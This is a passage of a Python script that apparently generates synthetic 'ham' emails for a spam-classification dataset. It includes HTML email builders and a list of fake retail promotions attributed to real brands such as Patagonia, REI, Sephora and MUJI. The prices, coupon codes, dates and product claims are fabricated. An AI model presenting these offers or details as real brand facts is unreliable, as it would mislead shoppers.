            ('<p style="font-style:italic">%s</p>' % esc(signoff)) if signoff else '', ('<p style="font-size:12px;color:#777">%s</p>' % esc(fine)) if fine else '',
            ('<p>%s</p>' % linkrow) if linkrow else '', esc(why), foot, esc(unsub_url), esc(un), esc(view_url or '#'), esc(vb), px)
    html = html_page(inner, title or headline, preheader, lang=lang, charset=charset)
    return text, html


def txn(brand, color, title, intro, rows=(), total=None, after=(), cta=None, url=None, footer=(), preheader='',
        lang='en', charset='utf-8', greeting=None, variant=0, logo_text=None, sections=()):
    """Transactional mail (receipts, alerts, notices): returns (text, html)."""
    T = []
    if greeting:
        T += [greeting, '']
    T += [title, '']
    if intro:
        for p in (intro if isinstance(intro, (list, tuple)) else [intro]):
            T += [p, '']
    w = max([len(k) for k, _ in rows] + [0]) + 2
    for k, v in rows:
        T.append(('%-' + str(w) + 's%s') % (k + ':', v) if variant != 1 else '%s\n  %s' % (k, v))
    if total:
        T.append(('%-' + str(w) + 's%s') % (total[0] + ':', total[1]))
    if rows or total:
        T.append('')
    for head, lines in sections:
        T += [head, '-' * len(head)] + list(lines) + ['']
    if cta:
        T += ['%s: %s' % (cta, url), '']
    for p in after:
        T += [p, '']
    if footer:
        T += ['--'] + list(footer)
    text = '\n'.join(T).rstrip() + '\n'
    f = 'Helvetica,Arial,sans-serif' if variant != 2 else '-apple-system,BlinkMacSystemFont,"Segoe UI",Roboto,sans-serif'
    rh = ''.join('<tr><td style="padding:6px 0;color:#666;font-size:14px">%s</td><td align="right" style="padding:6px 0;font-size:14px;color:#111">%s</td></tr>' % (esc(k), esc(v)) for k, v in rows)
    if total:
        rh += '<tr><td style="padding:10px 0;border-top:1px solid #ddd;font-weight:bold">%s</td><td align="right" style="padding:10px 0;border-top:1px solid #ddd;font-weight:bold">%s</td></tr>' % (esc(total[0]), esc(total[1]))
    table = '<table role="presentation" width="100%%" style="font-family:%s;margin:12px 0 20px">%s</table>' % (f, rh) if rh else ''
    intro_html = ''.join('<p style="margin:0 0 14px;font-size:15px;line-height:22px">%s</p>' % esc(p) for p in (intro if isinstance(intro, (list, tuple)) else [intro]) if p)
    after_html = ''.join('<p style="margin:0 0 14px;font-size:14px;line-height:21px;color:#444">%s</p>' % esc(p) for p in after)
    sec_html = ''.join('<h3 style="font-size:15px;margin:18px 0 6px">%s</h3>%s' % (esc(h), ''.join('<div style="font-size:14px;line-height:20px">%s</div>' % esc(l) for l in ls)) for h, ls in sections)
    btn = _btn(cta, url, color, radius=6) if cta else ''
    foot = ''.join('<p style="margin:0 0 6px">%s</p>' % esc(x) for x in footer)
    greet = '<p style="margin:0 0 14px;font-size:15px">%s</p>' % esc(greeting) if greeting else ''
    inner = ('<table role="presentation" width="100%%" bgcolor="#f6f7f9"><tr><td align="center" style="padding:24px 8px">\n'
             '<table class="wrap" role="presentation" width="580" bgcolor="#ffffff" style="border-radius:8px;border:1px solid #e6e8eb">\n'
             '<tr><td style="padding:22px 28px;border-bottom:4px solid %s;font-family:%s;font-size:20px;font-weight:bold;color:%s">%s</td></tr>\n'
             '<tr><td style="padding:26px 28px;font-family:%s;color:#222">%s<h2 style="margin:0 0 16px;font-size:21px">%s</h2>%s%s%s%s%s</td></tr>\n'
             '<tr><td style="padding:16px 28px;background:#fafafa;font-family:%s;font-size:11px;line-height:16px;color:#888">%s</td></tr>\n'
             '</table></td></tr></table>') % (
        color, f, color, esc(logo_text or brand), f, greet, esc(title), intro_html, table, sec_html, btn, after_html, f, foot)
    return text, html_page(inner, title, preheader, bg='#f6f7f9', lang=lang, charset=charset)


def simple_html(paras, sig=None, font='Arial, sans-serif', size='small', gmail=True):
    """HTML the way webmail clients write it."""
    if gmail:
        body = ''.join('<div>%s</div>' % (esc(p).replace('\n', '<br>') if p else '<br>') for p in paras)
        s = '<div dir="ltr">%s%s</div>\n' % (body, ('<br clear="all"><div><br></div><span class="gmail_signature_prefix">-- </span><br><div dir="ltr" class="gmail_signature">%s</div>' % esc(sig).replace('\n', '<br>')) if sig else '')
        return s
    body = ''.join('<p class="MsoNormal">%s<o:p></o:p></p>\n' % (esc(p).replace('\n', '<br>\n') if p else '&nbsp;') for p in paras)
    return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" '
            'xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n'
            '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
            '<style><!--\n/* Font Definitions */\n@font-face\n\t{font-family:Aptos;}\np.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0in;\n\tfont-size:11.0pt;\n\tfont-family:"Aptos",sans-serif;}\n'
            '--></style>\n</head>\n<body lang="EN-US" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n<div class="WordSection1">\n%s%s</div>\n</body>\n</html>\n') % (
        body, ('<p class="MsoNormal">%s<o:p></o:p></p>\n' % esc(sig).replace('\n', '<br>\n')) if sig else '')


def quote_text(text, who_line):
    return '\n' + who_line + '\n' + '\n'.join('> ' + l if l else '>' for l in text.split('\n'))


def gmail_quote_html(text, who_line):
    return ('<br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">%s<br></div>'
            '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">%s</blockquote></div>') % (
        esc(who_line), esc(text).replace('\n', '<br>'))


def on_wrote(d, name, email):
    return 'On %s, %s <%s> wrote:' % (d.strftime('%a, %b %-d, %Y at %-I:%M %p'), name, email)


def ics_part(ics, method='REQUEST', cte='7bit'):
    if cte == 'base64':
        return Part(['Content-Type: text/calendar; charset="UTF-8"; method=%s' % method, 'Content-Transfer-Encoding: base64'],
                    b64lines(ics.replace('\n', '\r\n').encode('utf-8')))
    return text_part(ics, 'calendar', 'utf-8', cte, 'bare').__class__(
        ['Content-Type: text/calendar; charset="UTF-8"; method=%s' % method, 'Content-Transfer-Encoding: %s' % cte],
        ics.encode('utf-8') if cte != 'quoted-printable' else binascii.b2a_qp(ics.encode('utf-8'), istext=True))


def ics_attach(ics, name='invite.ics', method='REQUEST'):
    return attach(ics.replace('\n', '\r\n').encode('utf-8'), 'application/ics', name)


def img_cid(png, name):
    cid = 'ii_%s' % rl(11)
    return cid, attach(png, 'image/png', name, disp='inline', cid=cid)


DE_MONTHS = ['Januar', 'Februar', 'März', 'April', 'Mai', 'Juni', 'Juli', 'August', 'September', 'Oktober', 'November', 'Dezember']
FR_MONTHS = ['janvier', 'février', 'mars', 'avril', 'mai', 'juin', 'juillet', 'août', 'septembre', 'octobre', 'novembre', 'décembre']
ES_MONTHS = ['enero', 'febrero', 'marzo', 'abril', 'mayo', 'junio', 'julio', 'agosto', 'septiembre', 'octubre', 'noviembre', 'diciembre']


def sms_code(n=6):
    return rs(n, string.digits)


def usd(lo, hi):
    return '$' + money(lo, hi)


# ============================================================================
# HAM 1: retail promotions from real brands (24)
# ============================================================================
TRKKIND = {'sfmc': 'sfmc', 'klaviyo': 'klaviyo', 'sendgrid': 'sendgrid', 'mailchimp': 'mailchimp', 'ses': 'aws',
           'sparkpost': 'sparkpost', 'hubspot': 'hubspot', 'brevo': 'brevo', 'mailgun': 'mailgun', 'postmark': 'x'}

PROMOS = [
    dict(scen='Patagonia Worn Wear trade-in promo, limited-time double credit', brand='Patagonia', frm=('Patagonia', 'patagonia@email.patagonia.com'),
         infra='sfmc', sub='email.patagonia.com', color='#22313f', variant=2, when=((2025, 4, 1), (2025, 4, 20)),
         subject='Double trade-in credit, this week only', pre='Bring in gear you no longer use. We\'ll give you twice the usual credit.',
         head='Your old jacket is worth twice as much this week',
         paras=['Through Sunday, every eligible item you trade in at a Patagonia store earns double Worn Wear credit. A fleece that would normally get you $20 gets you $40 toward used or new gear.',
                'Everything we take in gets cleaned, repaired where it needs it, and resold, which keeps it in use and out of a landfill for a few more seasons.',
                'Bring it clean, bring it with working zippers, and we\'ll handle the rest.'],
         cta='Find a store near you', footer=['Patagonia, Inc., 259 W. Santa Clara St., Ventura, CA 93001'],
         fine='Double credit applies to in-store trade-ins through Sunday at 11:59 p.m. local time. Credit is issued as a Patagonia gift card. Not valid on online trade-ins.'),
    dict(scen='REI member coupon, 20% off one item ending Monday', brand='REI Co-op', frm=('REI Co-op', 'rei@notices.rei.com'),
         infra='sfmc', sub='notices.rei.com', color='#3b6e22', variant=0, when=((2025, 5, 15), (2025, 5, 26)),
         subject='Members: your 20% off coupon ends Monday', pre='One full-price item. Plus an extra 20% off one REI Outlet item.',
         head='Save 20% on one full-price item',
         paras=['The Anniversary Sale wraps up Monday, and your member coupon goes with it. Use it on a tent, a pair of trail runners, or that rain shell you\'ve been eyeing since March.',
                'Not a member yet? Join for $30 and the coupon is yours today, along with your annual dividend.'],
         code=('Coupon code applied automatically at checkout when you sign in.', 'Member coupon', 'ANNIV20'),
         items=[('REI Co-op Trailmade 2 Tent with Footprint', '$199.00'), ('Hoka Speedgoat 6 Trail-Running Shoes', '$155.00'),
                ('Patagonia Torrentshell 3L Jacket', '$179.00'), ('REI Co-op Flash 22 Pack', '$59.95')],
         cta='Shop the Anniversary Sale', footer=['REI, 6750 S. 228th St., Kent, WA 98032']),
    dict(scen='UNIQLO limited-time offers with emoji subject', brand='UNIQLO', frm=('UNIQLO USA', 'uniqlo@mail.uniqlo.com'),
         infra='sfmc', sub='mail.uniqlo.com', color='#d8000c', variant=0, when=((2025, 10, 20), (2025, 11, 15)),
         subject='Limited-Time Offers 🔥 HEATTECH from $9.90', pre='Prices this low end Thursday.',
         head='Limited-Time Offers',
         paras=['Our warmest layers just got easier on the wallet. HEATTECH Extra Warm starts at $9.90 through Thursday, and Ultra Light Down vests are $20 off.',
                'Free standard shipping on orders over $99. Free store pickup on every order.'],
         items=[('HEATTECH Extra Warm Crew Neck T-Shirt', '$9.90 (was $19.90)'), ('Ultra Light Down Vest', '$39.90 (was $59.90)'),
                ('Fleece Full-Zip Jacket', '$29.90'), ('HEATTECH Socks 3-Pack', '$12.90')],
         cta='Shop Limited-Time Offers', footer=['UNIQLO USA LLC, 546 Broadway, New York, NY 10012']),
    dict(scen='Best Buy 48-hour flash sale, HTML only', brand='Best Buy', frm=('Best Buy', 'BestBuyInfo@emailinfo.bestbuy.com'),
         infra='sfmc', sub='emailinfo.bestbuy.com', color='#0046be', variant=0, html_only=True, when=((2025, 7, 5), (2025, 7, 12)),
         subject='48 hours only: up to 40% off laptops, headphones and more', pre='Flash sale ends Sunday at 11:59 p.m. CT.',
         head='48-Hour Flash Sale',
         paras=['Big savings on the tech you actually use, for two days only. Quantities are limited and prices go back up Sunday night.',
                'My Best Buy Plus™ and Total™ members get free 2-day shipping on everything.'],
         items=[('MacBook Air 13" (M4, 16GB, 256GB)', '$849.99 Save $150'), ('Sony WH-1000XM5 Wireless Headphones', '$279.99 Save $120'),
                ('Samsung 65" Class DU7200 4K TV', '$429.99 Save $100'), ('Apple iPad 11" (128GB)', '$299.99 Save $50')],
         cta='Shop the Flash Sale', footer=['Best Buy, 7601 Penn Ave. S, Richfield, MN 55423', 'Prices and offers are subject to change.']),
    dict(scen='Target Circle Week deals announcement', html_only=True, brand='Target', frm=('Target', 'Target@em.target.com'),
         infra='sfmc', sub='em.target.com', color='#cc0000', variant=1, when=((2025, 9, 28), (2025, 10, 10)),
         subject='Target Circle Week starts now — here are your deals', pre='Up to 50% off toys, home and more with Target Circle.',
         head='Target Circle Week is here',
         paras=['Your Target Circle deals are live through Saturday. Think up to 50% off toys, 30% off home essentials, and an extra 5% off almost everything with Target Circle Card.',
                'Grab what you need with Drive Up or Same Day Delivery, and we\'ll handle the rest.'],
         cta='See your deals', footer=['Target Corporation, 1000 Nicollet Mall, Minneapolis, MN 55403']),
    dict(scen='Sephora Beauty Insider savings event code', brand='Sephora', frm=('Sephora', 'sephora@beauty.sephora.com'),
         infra='sfmc', sub='beauty.sephora.com', color='#000000', variant=1, when=((2025, 4, 1), (2025, 4, 14)),
         subject='Rouge, your 20% off starts NOW', pre='The Savings Event is here. Use code YAYSAVE.',
         head='The Savings Event is on',
         paras=['As a Rouge member, you get 20% off everything through April 14. Stock up on your go-tos, or finally try that serum everyone keeps talking about.',
                'Free shipping on every order, always, for Beauty Insiders.'],
         code=('Use code YAYSAVE at checkout.', 'Your code', 'YAYSAVE'),
         cta='Shop now', footer=['Sephora USA, Inc., 350 Mission Street, Floor 7, San Francisco, CA 94105'],
         fine='Offer valid for Rouge members April 4-14, 2025, online, in the app and in Sephora stores. Exclusions apply.'),
    dict(scen='Nike product launch email, no discount', brand='Nike', frm=('Nike', 'nike@official.nike.com'),
         infra='sparkpost', sub='official.nike.com', color='#111111', variant=1, when=((2025, 6, 1), (2025, 7, 30)),
         subject='Just dropped: the Pegasus 42', pre='Responsive cushioning for every run.',
         head='Meet the Pegasus 42',
         paras=['Same trusted ride, now with a full-length ReactX foam midsole and a lighter engineered mesh upper. Built for easy miles, tempo days and everything in between.',
                'Members get free shipping and 60-day wear tests on every pair.'],
         cta='Shop Pegasus', footer=['Nike, Inc. One Bowerman Drive, Beaverton, OR 97005']),
    dict(scen='adidas German promo, 30% off selected styles', brand='adidas', frm=('adidas', 'adidas@news.adidas.de'),
         infra='sfmc', sub='news.adidas.de', color='#000000', variant=0, lang='de', to='katrin', when=((2025, 8, 1), (2025, 8, 20)),
         subject='Nur für kurze Zeit: 30 % Rabatt auf ausgewählte Styles', pre='adiClub-Mitglieder sparen zusätzlich.',
         head='Sommer-Sale: bis zu 30 % Rabatt',
         paras=['Nur bis Sonntag: Spare 30 % auf ausgewählte Sneaker, Trainingsbekleidung und Fußballschuhe. Als adiClub-Mitglied bekommst du außerdem kostenlosen Versand.',
                'Die Aktion gilt, solange der Vorrat reicht. Größen sind teilweise schon knapp.'],
         items=[('Samba OG Schuh', '84,00 € statt 120,00 €'), ('Own the Run Laufjacke', '48,97 € statt 69,95 €'),
                ('Tiro 25 Trainingshose', '34,97 € statt 49,95 €'), ('Predator League Fußballschuh', '62,97 € statt 89,95 €')],
         cta='Jetzt shoppen', footer=['adidas GmbH, Adi-Dassler-Straße 1, 91074 Herzogenaurach', 'Geschäftsführer: Björn Gulden']),
    dict(scen='Zalando German sale in windows-1252, countdown', brand='Zalando', frm=('Zalando', 'info@service-mail.zalando.de'),
         infra='ses', sub='service-mail.zalando.de', color='#ff6900', variant=0, lang='de', to='felix', charset='windows-1252', when=((2025, 1, 8), (2025, 1, 25)),
         subject='Nur noch 3 Tage: bis zu 50 % Rabatt im Sale', pre='Der Winter-Sale endet bald.',
         head='Letzte Chance im Winter-Sale',
         paras=['Der Countdown läuft: Nur noch 3 Tage sparst du bis zu 50 % auf Mäntel, Boots und Strick von über 2.000 Marken.',
                'Wie immer gilt: kostenloser Versand und 100 Tage Rückgaberecht.'],
         items=[('Wollmantel – Camel', '89,95 € statt 179,95 €'), ('Chelsea Boots aus Leder', '69,99 € statt 119,99 €')],
         cta='Zum Sale', footer=['Zalando SE, Valeska-Gert-Straße 5, 10243 Berlin', 'Vorstand: Robert Gentz, David Schröder. Amtsgericht Charlottenburg, HRB 158855 B']),
    dict(scen='Decathlon France bike promo in windows-1252', brand='Decathlon', frm=('Decathlon', 'newsletter@news.decathlon.fr'),
         infra='sfmc', sub='news.decathlon.fr', color='#3643ba', variant=0, lang='fr', to='camille', charset='windows-1252', when=((2025, 3, 10), (2025, 4, 5)),
         subject="Jusqu'à -40 % sur le vélo : c'est maintenant", pre='Vélos, accessoires et entretien à prix réduits.',
         head='Le printemps se vit à vélo',
         paras=["Jusqu'au 6 avril, profitez de prix réduits sur une sélection de vélos de ville, VTT et vélos électriques.",
                "Besoin d'une révision ? Nos ateliers vous accueillent sans rendez-vous le samedi matin."],
         items=[('Vélo électrique de ville Elops 920 E', '1 199 € au lieu de 1 499 €'), ('Casque vélo urbain 500', '24,99 €'),
                ('Antivol U 900', '29,99 €')],
         cta='Je découvre les offres', footer=['Decathlon SE, 4 boulevard de Mons, 59650 Villeneuve-d\'Ascq']),
    dict(scen='El Corte Ingles Spanish Black Friday campaign', brand='El Corte Inglés', frm=('El Corte Inglés', 'noreply@info.elcorteingles.es'),
         infra='sfmc', sub='info.elcorteingles.es', color='#007a33', variant=0, lang='es', to='lucia', when=((2025, 11, 20), (2025, 11, 28)),
         subject='Black Friday: hasta un 50 % de descuento en tecnología', pre='Solo hasta el domingo. Envío gratis a partir de 49 €.',
         head='Black Friday ya está aquí',
         paras=['Hasta el domingo tienes descuentos de hasta el 50 % en televisores, portátiles, móviles y pequeño electrodoméstico.',
                'Y si compras online, el envío es gratis a partir de 49 € o puedes recogerlo en tu centro más cercano.'],
         items=[('Smart TV LG OLED 55"', '999 € (antes 1.499 €)'), ('Robot aspirador Roomba Combo', '349 € (antes 549 €)')],
         cta='Ver ofertas', footer=['El Corte Inglés, S.A. Hermosilla, 112. 28009 Madrid']),
    dict(scen='Allbirds last-call sale via Klaviyo', brand='Allbirds', frm=('Allbirds', 'hello@email.allbirds.com'),
         infra='klaviyo', color='#212a2f', variant=1, when=((2025, 12, 26), (2026, 1, 4)),
         subject='Last call: up to 50% off ends tonight', pre='Our end-of-year sale wraps at midnight PT.',
         head='Going, going...',
         paras=['Tonight at midnight, our end-of-year sale ends and prices on our softest sneakers go back to normal.',
                'Tree Runners, Wool Loungers, and a handful of limited colors are still here, in most sizes. For now.'],
         items=[('Men\'s Tree Runner Go', '$69 (was $110)'), ('Women\'s Wool Lounger', '$59 (was $100)')],
         cta='Shop the Sale', footer=['Allbirds, Inc., 730 Montgomery St, San Francisco, CA 94111']),
    dict(scen='Warby Parker prescription reminder with soft upsell', brand='Warby Parker', frm=('Warby Parker', 'hello@email.warbyparker.com'),
         infra='sendgrid', color='#00a2e1', variant=2,
         subject='Heads up: your prescription expires next month', pre='Book an eye exam in a couple of taps.',
         head='Time for an eye exam?',
         paras=['According to our records, the prescription we have on file for you expires next month. If your eyes have been working harder than usual lately, that might be why.',
                'You can book a comprehensive eye exam at any of our stores, usually same week. Most vision insurance is accepted, and exams start at $95 without insurance.',
                'Oh, and we just launched a few new frames in the Durand and Haskell families, in case you\'re due for a refresh.'],
         cta='Book an exam', signoff='See you soon,\nWarby Parker', footer=['Warby Parker, 233 Spring Street, 6th Floor East, New York, NY 10013']),
    dict(scen='LEGO Insiders double points weekend', brand='LEGO', frm=('LEGO Shop', 'legoshop@e.lego.com'),
         infra='sfmc', sub='e.lego.com', color='#e3000b', variant=0, when=((2025, 2, 1), (2025, 10, 30)),
         subject='Double Insiders points this weekend only', pre='Earn 2x points on every set, Friday to Sunday.',
         head='Double points. Double the fun.',
         paras=['This weekend only, LEGO Insiders earn double points on every purchase at LEGO.com and in LEGO Stores.',
                'That\'s 2x points on everything from the new Botanicals to the biggest Technic sets. Points can be redeemed for money off future purchases or exclusive rewards.'],
         items=[('Tranquil Garden 10315', '$109.99'), ('Technic Ferrari SF-24 F1 Car 42207', '$209.99'), ('Orchid 10311', '$49.99')],
         cta='Shop now', footer=['LEGO Systems, Inc., 1 Legoland Drive, Enfield, CT 06083', 'LEGO, the LEGO logo and the Minifigure are trademarks of the LEGO Group.']),
    dict(scen='Etsy favorites on sale alert', html_only=True, brand='Etsy', frm=('Etsy', 'email@email.etsy.com'),
         infra='sendgrid', color='#f1641e', variant=1,
         subject='3 items you favorited are on sale', pre='Handmade ceramic mugs, a linen apron and more.',
         head='Good news: prices dropped on your favorites',
         paras=['Some items you saved are on sale right now. Sales on Etsy are set by individual shops and can end any time.'],
         items=[('Speckled stoneware mug, handmade, 12oz', '$28.80 (20% off)'), ('Linen cross-back apron, natural', '$42.50 (15% off)'),
                ('Custom pet portrait line drawing, digital', '$18.00 (25% off)')],
         cta='See your favorites', footer=['Etsy, Inc., 117 Adams Street, Brooklyn, NY 11201']),
    dict(scen='Wayfair Way Day, 48-hour countdown, HTML-only', brand='Wayfair', frm=('Wayfair', 'shop@e.wayfair.com'),
         infra='sfmc', sub='e.wayfair.com', color='#7f187f', variant=0, html_only=True, when=((2025, 4, 28), (2025, 5, 1)),
         subject='⏰ WAY DAY IS BACK: up to 80% off for 48 hours', pre='Our biggest sale of the year. Free shipping on everything.',
         head='Way Day: 48 hours of our lowest prices',
         paras=['Up to 80% off furniture, rugs, bedding and more, plus free shipping on everything. Ends Wednesday at midnight.',
                'New deals drop every few hours, so check back often.'],
         items=[('Sand & Stable Baird 3-Piece Sectional', '$1,149.99'), ('Wade Logan Area Rug 8x10', '$129.99'),
                ('Three Posts Queen Platform Bed', '$239.99'), ('Birch Lane Table Lamp (Set of 2)', '$89.99')],
         cta='Shop Way Day', footer=['Wayfair LLC, 4 Copley Place, 7th Floor, Boston, MA 02116']),
    dict(scen='Home Depot Spring Black Friday savings', brand='The Home Depot', frm=('The Home Depot', 'HomeDepotCustomerCare@email.homedepot.com'),
         infra='sfmc', sub='email.homedepot.com', color='#f96302', variant=0, when=((2025, 4, 3), (2025, 4, 16)),
         subject='Spring Black Friday savings are here', pre='Mulch 5 for $10, plus deals on tools and grills.',
         head='Spring Black Friday',
         paras=['Get your yard ready for the season with Spring Black Friday deals through April 16.',
                'Pick up in store, often in as little as 2 hours. Or get it delivered.'],
         items=[('Vigoro 2 cu. ft. Mulch', '5 for $10'), ('RYOBI ONE+ 18V String Trimmer Kit', '$129.00'),
                ('Weber Spirit E-325 Gas Grill', '$549.00')],
         cta='Shop All Deals', footer=['The Home Depot, 2455 Paces Ferry Road, Atlanta, GA 30339']),
    dict(scen='lululemon We Made Too Much markdowns', brand='lululemon', frm=('lululemon', 'email@e.lululemon.com'),
         infra='sfmc', sub='e.lululemon.com', color='#d31f37', variant=1,
         subject='New styles just added to We Made Too Much', pre='Get them while they\'re here.',
         head='Fresh markdowns, just added',
         paras=['We made too much, so we\'re marking it down. New styles were just added, including the ABC Pant and the Define Jacket in new colors.',
                'Sizes go fast. Free shipping and free returns on all orders.'],
         cta='Shop markdowns', footer=['lululemon athletica, 1818 Cornwall Ave, Vancouver, BC V6J 1C7, Canada']),
    dict(scen='Glossier free shipping weekend via Klaviyo', brand='Glossier', frm=('Glossier', 'hello@email.glossier.com'),
         infra='klaviyo', color='#f5c6c6', variant=1,
         subject='Free shipping on everything (yes, everything)', pre='No minimum through Sunday.',
         head='Free shipping, no minimum',
         paras=['From now until Sunday at midnight, every order ships free. One Balm Dotcom? Free shipping. Your whole routine? Also free shipping.',
                'New this month: Cloud Paint in two new shades, and Boy Brow in Clear is finally back.'],
         cta='Shop Glossier', footer=['Glossier, Inc., 233 Spring St, East 10th Floor, New York, NY 10013']),
    dict(scen='Chewy Autoship first-order discount', brand='Chewy', frm=('Chewy', 'hello@chewy.com'),
         infra='sendgrid', color='#1c49c2', variant=0,
         subject='Save 35% on your first Autoship order', pre='Plus free 1-3 day shipping on orders $49+.',
         head='Set it and forget it (and save 35%)',
         paras=['Never run out of food or litter again. Set up Autoship and save 35% on your first order, up to $20, then 5% on every repeat delivery.',
                'Change dates, skip deliveries or cancel any time. No fees, no commitment.'],
         code=('Use code AUTOSHIP35 on your first Autoship order.', 'Promo code', 'AUTOSHIP35'),
         cta='Start Autoship', footer=['Chewy, Inc., 7700 West Sunrise Boulevard, Plantation, FL 33322']),
    dict(scen='Bombas Cyber Week countdown via Klaviyo', brand='Bombas', frm=('Bombas', 'hello@bombas.com'),
         infra='klaviyo', color='#1e3c72', variant=0, when=((2025, 12, 1), (2025, 12, 2)),
         subject='⏳ 12 hours left: 25% off sitewide', pre='Cyber Week ends tonight at midnight ET.',
         head='The clock is ticking',
         paras=['Our Cyber Week sale ends at midnight ET. That\'s 25% off socks, underwear, tees and slippers, and one item donated for every item purchased, as always.',
                'Gift sets ship free and arrive in plenty of time for the holidays.'],
         cta='Shop the Sale', footer=['Bombas, 3 Park Avenue, New York, NY 10016']),
    dict(scen='Apple Back to School offer', brand='Apple', frm=('Apple', 'News@insideapple.apple.com'),
         infra='ses', sub='insideapple.apple.com', color='#0071e3', variant=1, when=((2025, 6, 20), (2025, 8, 20)),
         subject='Get a gift card up to $150 when you buy a Mac or iPad for college.', pre='Plus save on AppleCare+.',
         head='Back to School is on.',
         paras=['Buy a new Mac or iPad with education pricing and get an Apple Gift Card up to $150. Offer available to current and newly accepted college students, their parents, and faculty.',
                'Plus save 20% on AppleCare+ for Mac or iPad.'],
         cta='Shop for college', footer=['Apple Inc. One Apple Park Way, Cupertino, CA 95014'],
         fine='Offer valid through September 30, 2025. Qualified purchasers only. Terms apply.'),
    dict(scen='Fellow coffee gear annual sale via Shopify Email', brand='Fellow', frm=('Fellow', 'hello@fellowproducts.com'),
         infra='sendgrid', color='#2b2b2b', variant=2, when=((2025, 11, 24), (2025, 12, 1)),
         subject='Our one sale of the year starts now', pre='Up to 30% off Stagg, Ode and Opus.',
         head='The only sale we run all year',
         paras=['Once a year we mark down the whole lineup. This is it: up to 30% off kettles, grinders and brewers through Cyber Monday.',
                'If you\'ve been waiting on an Ode Gen 2, this is the moment.'],
         items=[('Stagg EKG Electric Kettle', '$146.25 (was $195)'), ('Ode Brew Grinder Gen 2', '$244 (was $345)')],
         cta='Shop the sale', footer=['Fellow Industries, 2440 Bryant St, San Francisco, CA 94110']),
]


def ham_promos():
    for p in PROMOS:
        d = rdate(*p['when']) if p.get('when') else rdate()
        rk = p.get('to') or pick(CONSUMERS)
        kind = TRKKIND[p['infra']]
        host = p.get('sub') or p['frm'][1].split('@')[1]
        url = trk(kind, host)
        items = [(n, pr, trk(kind, host)) for n, pr in p.get('items', [])]
        un_url = trk(kind, host) if kind != 'klaviyo' else 'https://manage.kmail-lists.com/subscriptions/unsubscribe?a=%s&c=%s' % (rs(6), rs(26))
        hero = None
        related = None
        if R.random() < 0.35:
            cid, part = img_cid(banner_png(p['color'], 300, 90), 'hero_%s.png' % rl(6))
            hero, related = 'cid:' + cid, [part]
        else:
            hero = 'https://%s/%s/hero_%s.jpg' % ('image.' + host if p['infra'] == 'sfmc' else 'd3k81ch9hvuctc.cloudfront.net', rl(8), rl(6))
        px = 'https://%s/open.aspx?ffcb10-%s' % ('click.' + host, rhex(40)) if p['infra'] == 'sfmc' else None
        text, html = mkt(p['brand'], p['color'], p['head'], p['paras'], p.get('cta'), url, items, p.get('code'),
                         p.get('pre', ''), p.get('footer', ()), un_url, variant=p.get('variant', 0), lang=p.get('lang', 'en'),
                         charset=p.get('charset', 'utf-8'), hero=hero, fine=p.get('fine', ''), signoff=p.get('signoff'),
                         pixel=px, img_host=('image.' + host) if p['infra'] == 'sfmc' else 'd3k81ch9hvuctc.cloudfront.net')
        add('ham', p['scen'], frm=p['frm'], to=P[rk], subject=p['subject'], date=d, infra=p['infra'], esp_sub=p.get('sub'),
            dkim_dom=p.get('sub') or p['frm'][1].split('@')[1],
            text=None if p.get('html_only') else text, html=html, unsub=True, related=related,
            charset=p.get('charset', 'utf-8'), hcs='utf-8', subj_cs=p.get('charset', 'utf-8'))


# ---- MUJI (Japanese, ISO-2022-JP plain text mail magazine)
def ham_muji():
    d = rdate((2025, 4, 1), (2026, 10, 30), off=9)
    text = '''━━━━━━━━━━━━━━━━━━━━━━━━━━━━━
　無印良品 メールマガジン
━━━━━━━━━━━━━━━━━━━━━━━━━━━━━

佐藤 はるか 様

いつも無印良品をご利用いただき、ありがとうございます。

■ 無印良品週間のお知らせ
期間中、MUJI passportを会員証としてご提示いただくと、
全品10％オフでお買い物いただけます。

　期間：%s（金）〜 %s（月）
　対象：全国の無印良品店舗・ネットストア

※一部対象外の商品がございます。
※ネットストアでは、ログインのうえご購入ください。

■ 今月のおすすめ
・やわらかポリエチレンケース
・オーガニックコットン 洗いざらしブロードシャツ
・炊き込みごはんの素 鶏ごぼう

詳しくはこちら
https://www.muji.com/jp/ja/feature/mujiweek/%s/?utm_source=mailmagazine&utm_medium=email

──────────────────────────────
配信停止・アドレス変更はこちら
https://www.muji.com/jp/ja/mypage/mailmagazine/
発行：株式会社良品計画
〒171-8434 東京都豊島区東池袋4-26-3
──────────────────────────────
''' % ((d + dt.timedelta(days=3)).strftime('%-m月%-d日'), (d + dt.timedelta(days=6)).strftime('%-m月%-d日'), d.strftime('%Y%m'))
    add('ham', 'MUJI Japanese mail magazine, member week 10% off, ISO-2022-JP text',
        frm=('無印良品', 'mail@mail.muji.net'), to=P['haruka'], subject='【無印良品週間】メンバー限定 全品10%オフのお知らせ', date=d,
        infra='ses', region='us-west-2', text=text, charset='iso-2022-jp', text_cte='7bit', hcs='iso-2022-jp', subj_cs='iso-2022-jp',
        unsub='<https://www.muji.com/jp/ja/mypage/mailmagazine/unsubscribe?id=%s>' % rhex(24), one_click=False)


# ============================================================================
# HAM 2: SaaS product updates, webinars, trials (12)
# ============================================================================
def ham_saas():
    # Notion
    d = rdate((2025, 3, 1), (2026, 6, 1))
    u = lambda: trk('aws')
    text, html = mkt('Notion', '#000000', "What's new in Notion",
                     ['Hi there, here are a few things we shipped this month.',
                      'Notion Mail is now available to everyone. It organizes your inbox the way you would, with views, labels and AI that drafts replies in your voice.',
                      'Meeting notes now transcribe and summarize calls in 16 languages, and link action items straight to your project databases.',
                      'Forms got conditional logic. Ask a follow-up question only when someone picks "Other" - no more walls of optional fields.'],
                     'See everything new', u(), preheader='Notion Mail, meeting notes in 16 languages, smarter forms.',
                     footer=['Notion Labs, Inc., 2300 Harrison Street, San Francisco, CA 94110'], unsub_url=u(), variant=1,
                     links=[('Changelog', 'https://www.notion.com/releases'), ('Help center', 'https://www.notion.com/help')])
    add('ham', 'Notion monthly product update', frm=('Notion Team', 'team@mail.notion.so'), to=who('maya'),
